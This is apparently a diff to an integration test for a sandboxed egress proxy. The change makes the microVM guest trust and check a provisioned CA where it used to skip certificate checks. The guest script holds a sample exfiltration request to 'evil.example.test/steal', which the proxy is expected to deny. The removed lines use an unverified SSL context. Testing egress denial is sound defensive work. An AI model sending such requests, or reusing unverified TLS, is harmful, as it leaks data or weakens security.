@@ -4,8 +4,8 @@ real `bot-bottle egress serve` on a Unix socket, which denies an undeclared host
 its 403 and forwards a declared route with the sidecar-held credential injected, to a
 recording fake upstream on loopback.
 
-The guest does not trust the egress CA yet (provisioning is not wired): it skips
-certificate checks, which this test does not need to prove anything about."""
+The guest trusts the egress CA, handed to it on the provision disk, and checks the
+certificate the egress presents for the upstream name."""
 
 from __future__ import annotations
 
@@ -22,8 +22,9 @@ sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "egress"))
 from egress_harness import DEFAULT_ROUTES, SECRET, Egress, routes_doc, start_egress
 from egress_upstream import Upstream, start_upstream
 
-from bot_bottle.backends.microvm import boot
+from bot_bottle.backends.microvm import boot, provision_disk
 from bot_bottle.backends.microvm.channel import HostChannel
+from bot_bottle.backends.microvm.provision_disk import GuestFile
 from bot_bottle.backends.microvm.qemu import VmConfig, host_tsc_khz
 from bot_bottle.executor import ProcessExecutor
 from bot_bottle.images.guest.store import BootFiles
@@ -34,8 +35,8 @@ c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=60)
 c.request("GET", "http://evil.example.test/steal")
 r = c.getresponse()
 print("denied:", r.status, r.read()[:300])
-c = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=90,
-                                context=ssl._create_unverified_context())
+ctx = ssl.create_default_context(cafile="/run/bot-bottle/files/egress-ca.pem")
+c = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=90, context=ctx)
 c.set_tunnel("api.example.test", int(sys.argv[1]))
 c.request("GET", "/v1/models", headers={"Authorization": "Bearer agent-placeholder"})
 r = c.getresponse()
@@ -53,10 +54,12 @@ def run(
     up = start_upstream(d / "upstream")
     eg = start_egress(d / "egress", routes_doc(up, DEFAULT_ROUTES), listen=f"unix:{d}/egress.sock")
     channel = HostChannel(d / "channel.sock", {3128: d / "egress.sock"})
+    disk = provision_disk.write([GuestFile("egress-ca.pem", eg.ca.read_bytes())], d / "prov.tar")
     cfg = VmConfig("tcg", boot_files.kernel.vmlinuz, boot_files.initramfs,
                    root=Path(root_image), command=("python3", "-c", GUEST, str(up.port)),
                    tsc_khz=host_tsc_khz(Path("/proc/cpuinfo").read_text()),
-                   channel=channel.path, mux_ports=(3128,), user=1000)  # fmt: skip
+                   channel=channel.path, mux_ports=(3128,), user=1000,
+                   provision=disk)  # fmt: skip
     try:
         yield boot.run(cfg, ProcessExecutor(), timeout=150, marker="allowed:"), eg, up
     finally:
